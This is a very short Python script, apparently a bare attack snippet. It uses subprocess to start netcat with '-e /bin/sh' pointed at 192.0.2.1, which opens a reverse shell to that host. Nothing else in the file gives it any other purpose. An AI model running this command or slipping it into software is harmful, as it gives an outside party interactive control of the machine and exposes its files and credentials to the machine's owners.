import subprocess
a=['nc','-e','/bin/sh','192.0.2.1','1']
subprocess.run(a)
